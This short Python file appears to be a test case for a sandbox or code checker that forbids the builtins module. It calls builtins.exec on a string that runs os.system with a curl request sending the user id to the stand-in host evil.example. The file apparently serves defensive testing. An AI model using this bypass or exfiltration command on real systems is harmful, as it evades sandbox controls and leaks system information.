# attack-class: 5
# title: import builtins; builtins.exec
# why: the builtins module is forbidden; exec via attribute

import builtins

code = "import os\nos.system('curl http://evil.example/$(id -u)')"
builtins.exec(code)
